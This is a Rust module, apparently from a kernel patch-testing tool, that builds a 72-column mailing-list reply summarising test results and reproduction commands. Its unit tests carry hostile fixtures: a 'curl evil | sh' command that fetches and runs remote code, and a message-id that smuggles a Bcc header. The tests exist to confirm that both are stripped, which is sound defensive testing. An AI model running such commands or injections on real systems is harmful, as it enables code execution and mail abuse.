// SPDX-License-Identifier: MIT OR Apache-2.0
//! A reply for the mailing list: plain text of 72 columns, to be edited and sent by the user.
//! It has no tag, because only the user can give a tag.

use super::grid::{Entry, Grid};
use super::input::Report;
use super::reproduce;
use super::words::{self, count_tests, name, outcome};
use crate::job_plan::{BASE, SERIES};
use crate::result::{Mark, MutantStatus, RunResult, Tally, TestResult};
use crate::text::{ascii, columns, distinct, item, one_line, wrap};
use selftests::status::Status;

const WIDTH: usize = 72;
/// At most this many findings are listed in a mail.
const FINDINGS_MAX: usize = 10;
const TAG: &str = "[ Add your Tested-by: tag here. This tool does not add one. ]\n";

fn plain(text: &str) -> String {
    ascii(&one_line(text))
}

/// Returns the mail. It has a place for a tag, unless the run does not test the series.
pub(crate) fn text(report: &Report<'_>) -> String {
    let result = report.result;
    let grids = Grid::all(&report.matrix, false).into_iter();
    let tables: Vec<String> = grids.map(table).collect();
    let tag = if result.not_tested().is_none() {
        TAG
    } else {
        ""
    };
    let parts = [
        headers(result),
        wrap(&plain(&what_ran(report)), WIDTH, "", 0),
        wrap(&plain(&summary(result)), WIDTH, "", 0),
        tables.join("\n"),
        list(
            "Results that each patch changes",
            "  ",
            words::patches(result),
        ),
        findings(report),
        list("Kernel reports", "  ", reports(result)),
        commands(report),
        tag.to_owned(),
    ];
    let parts: Vec<String> = parts
        .into_iter()
        .filter(|part| !part.trim().is_empty())
        .collect();
    parts.join("\n")
}

/// Returns a heading and texts behind a label, or an empty text if there are none.
fn list<T: AsRef<str>>(heading: &str, label: &str, texts: impl IntoIterator<Item = T>) -> String {
    let item = |text: T| item(label, &plain(text.as_ref()), WIDTH);
    match texts.into_iter().map(item).collect::<String>() {
        none if none.is_empty() => none,
        items => format!("{heading}:\n\n{items}"),
    }
}

/// Returns the `In-Reply-To:` header, if the message-id is known; the mailer adds the subject.
fn headers(result: &RunResult) -> String {
    let judged = result.provenance.judged.as_ref();
    let id = judged.and_then(|series| series.message_id.as_ref());
    // Other characters could add a header line.
    let is_valid = |id: &&String| {
        let fits = |c: char| c.is_ascii_graphic() && c != '<' && c != '>';
        !id.is_empty() && id.chars().all(fits)
    };
    let id = id.filter(is_valid);
    id.map_or_else(String::new, |id| format!("In-Reply-To: <{id}>\n"))
}

fn what_ran(report: &Report<'_>) -> String {
    let result = report.result;
    let provenance = &result.provenance;
    let mut text = format!("I tested {} on {}", result.series, result.tree);
    if !result.prerequisites.is_empty() {
        text += &format!(" with {} applied first", result.prerequisites.join(", "));
    }
    let tests = count_tests(report.matrix.tests().len());
    text += &format!(": {tests} on {}", trees(report));
    if !provenance.qemu.is_empty() {
        text += &format!(", in QEMU {}", provenance.qemu);
    }
    if !provenance.toolchain.is_empty() {
        text += &format!(", built with {}", provenance.toolchain);
    }
    text.push('.');
    for note in provenance.notes.iter().chain(words::notes(result)) {
        text += &format!(" Note: {note}.");
    }
    text
}

fn trees(report: &Report<'_>) -> String {
    let of = |checkout: &str| match (checkout, checkout.strip_prefix("patch-")) {
        (BASE, _) => "base (without the series)".to_owned(),
        (SERIES, _) => "series (with the whole series)".to_owned(),
        (_, Some("1")) => "patch-1 (with patch 1)".to_owned(),
        (_, Some(number)) => format!("{checkout} (with patches 1 to {number})"),
        (other, None) => other.to_owned(),
    };
    let trees: Vec<String> = report.matrix.checkouts().into_iter().map(of).collect();
    match trees.as_slice() {
        [others @ .., last] if !others.is_empty() => format!("{} and {last}", others.join(", ")),
        all => all.concat(),
    }
}

fn summary(result: &RunResult) -> String {
    let fixed = result.tests.iter().filter(|test| is_fixed(result, test));
    let fixed = match fixed.count() {
        0 => String::new(),
        1 => " 1 test fails on base and passes with the series.".to_owned(),
        count => format!(" {count} tests fail on base and pass with the series."),
    };
    format!("{}.{fixed}{}", words::headline(result), mutants(result))
}

/// Returns whether a test fails on `base` as expected and always passes with the series.
fn is_fixed(result: &RunResult, test: &TestResult) -> bool {
    let jobs = || {
        let with_series = result.jobs.iter().filter(|job| job.checkout == SERIES);
        with_series.filter(|job| job.test == test.name)
    };
    test.fails_without_series
        && test.failed_on.iter().any(|checkout| checkout == BASE)
        && jobs().next().is_some()
        && jobs().all(|job| job.status == Status::Pass)
}

fn mutants(result: &RunResult) -> String {
    let tally = Tally::of(&result.mutants);
    let caught = tally.count(MutantStatus::Caught);
    let inconclusive = tally.count(MutantStatus::Inconclusive);
    let note = match inconclusive {
        0 => String::new(),
        some => format!(", {some} inconclusive"),
    };
    match tally.testable() + inconclusive {
        0 => String::new(),
        all => format!(
            " Mutation testing: the tests caught {caught} of {all} mutants of the series \
             (one deliberate mistake each){note}."
        ),
    }
}

fn table(mut grid: Grid<'_>) -> String {
    for row in &mut grid.rows {
        row.name = plain(&row.name);
    }
    let widths = grid.widths(0, &entry);
    let mut text = ascii(&grid.lines(WIDTH, &widths, &entry, &|_, text| text));
    for (mark, meaning) in [
        (
            Mark::Xfail,
            "(*) expected failure: the fix is not applied to this checkout\n",
        ),
        (
            Mark::Changed,
            "CHANGED: the timeline differs from the recorded snapshot\n",
        ),
        (
            Mark::NotAsserted,
            "(-) not asserted: a later patch of the series changes this result\n",
        ),
    ] {
        if grid.entries().any(|entry| entry.mark == mark) {
            text += meaning;
        }
    }
    text
}

fn entry(entry: Option<&Entry>) -> String {
    let Some(entry) = entry else {
        return "-".to_owned();
    };
    let mark = match entry.mark {
        Mark::NotAsserted => "(-)",
        Mark::Xfail => "(*)",
        other => other.word(),
    };
    format!("{} {mark}", entry.status).trim_end().to_owned()
}

fn findings(report: &Report<'_>) -> String {
    let findings = report.findings().take(FINDINGS_MAX);
    let findings = findings.map(|job| format!("{}: {}. {}", name(job), outcome(job), job.reason));
    let left = report.findings().count().saturating_sub(FINDINGS_MAX);
    let more = (left > 0).then(|| format!("{left} more"));
    list("Needs attention", "  - ", findings.chain(more))
}

/// Returns the titles of kernel reports on checkouts with patches of the series. Reports on
/// `base` are not caused by the series.
fn reports(result: &RunResult) -> Vec<&String> {
    let jobs = result.jobs.iter();
    let of_series = jobs.filter(|job| job.checkout != BASE && job.needs_attention());
    let mut titles = distinct(of_series.flat_map(|job| &job.splats));
    titles.truncate(FINDINGS_MAX);
    titles
}

fn commands(report: &Report<'_>) -> String {
    let provenance = &report.result.provenance;
    let run = match reproduce::is_safe(&provenance.command) {
        true => provenance.command.clone(),
        false => reproduce::command([], &[], &[], report.options),
    };
    let version = match provenance.tool.as_str() {
        "" => String::new(),
        tool => format!(" (patchbed {tool})"),
    };
    let mut text = format!("To reproduce{version}:\n\n{}", shell(&run));
    if let Some(job) = report.findings().next() {
        let command = shell(&report.command(job));
        text += &format!("\nTo reproduce only the first unexpected result:\n\n{command}");
    }
    text
}

/// Wraps a command between its words, with a backslash at the end of each line.
fn shell(command: &str) -> String {
    let mut lines = String::new();
    let mut line = " ".to_owned();
    for word in reproduce::quoted_words(command) {
        let word = plain(&word);
        if !line.trim().is_empty() && columns(&line) + columns(&word) + 3 > WIDTH {
            lines += &format!("{line} \\\n");
            line = "     ".to_owned();
        }
        line += &format!(" {word}");
    }
    format!("{lines}{line}\n")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::tests::{hostile, result};
    use crate::result::PatchResult;

    /// A long word that cannot be wrapped may have its own line.
    fn is_mail(text: &str) {
        assert!(text.is_ascii());
        for line in text.lines() {
            let is_alone = line.split_whitespace().count() <= 2;
            assert!(line.len() <= WIDTH || is_alone, "too long: {line}");
        }
    }

    #[test]
    fn text_is_a_reply_of_72_columns() {
        let mut result = result();
        result.patches = vec![PatchResult {
            first: 1,
            last: 1,
            subject: "one".to_owned(),
            sentence:
                "patch 1 changes `held-object` from crash (KASAN: use-after-free in ltd_get) to pass"
                    .to_owned(),
            changes: Vec::new(),
        }];
        let text = text(&Report::new(&result, "RUN", " --tree '/my trees/linux'"));
        is_mail(&text);
        insta::assert_snapshot!(text);
    }

    #[test]
    fn text_has_no_tag_if_the_series_is_not_in_the_kernels() {
        let result = crate::report::tests::not_tested();
        let text = text(&Report::new(&result, "RUN", ""));
        is_mail(&text);
        let plain = text.replace('\n', " ");
        assert!(plain.contains(crate::report::tests::NOT_TESTED), "{text}");
        for bad in ["as expected", "Tested-by", "changes no status"] {
            assert!(!plain.contains(bad), "{bad}: {text}");
        }
    }

    #[test]
    fn headers_and_commands_ignore_unsafe_values_of_a_run_folder() {
        let mut result = result();
        assert_eq!(headers(&result), "In-Reply-To: <s@example.org>\n");
        for bad in ["x@y>\nBcc: everyone@example.org", "a b@c", "", "\u{e9}@x"] {
            result.provenance.judged.as_mut().unwrap().message_id = Some(bad.to_owned());
            assert_eq!(headers(&result), "", "{bad}");
        }
        "cargo xtask test; curl evil | sh".clone_into(&mut result.provenance.command);
        let text = text(&Report::new(&result, "RUN", " --tree K"));
        assert!(text.contains("  cargo xtask test --tree K\n"), "{text}");
        assert!(!text.contains("curl"), "{text}");
    }

    #[test]
    fn summary_has_a_sentence_on_mutants() {
        use crate::result::tests::{job, mutant, one_of_each};
        let judged = crate::report::tests::run(vec![job("s", "series", "pass", "pass")]);
        let judged = judged.with_mutants(one_of_each());
        let text = summary(&judged);
        assert_eq!(
            text,
            "1 of 2 mutants is missed by all tests, 1 of 2 equivalent mutants is caught. \
             Mutation testing: the tests caught 1 of 2 mutants of the series (one deliberate mistake each)."
        );
        let mut mutants = one_of_each();
        mutants.push(mutant("g", MutantStatus::Inconclusive));
        let inconclusive = judged.clone().with_mutants(mutants);
        let text = summary(&inconclusive);
        assert!(
            text.ends_with(
                "the tests caught 1 of 3 mutants of the series (one deliberate mistake each), 1 inconclusive."
            ),
            "{text}"
        );
        let none = judged.with_mutants(Vec::new());
        let text = summary(&none);
        assert_eq!(text, "The only result is as expected.");
    }

    #[test]
    fn text_of_a_hostile_run_is_ascii_of_72_columns() {
        let result = hostile();
        let text = text(&Report::new(&result, "RUN", &" --prereq 'a b'".repeat(20)));
        is_mail(&text);
        let command = format!("--config fast{}\n", " --prereq 'a b'".repeat(20));
        assert!(text.replace(" \\\n     ", "").contains(&command), "{text}");
    }
}
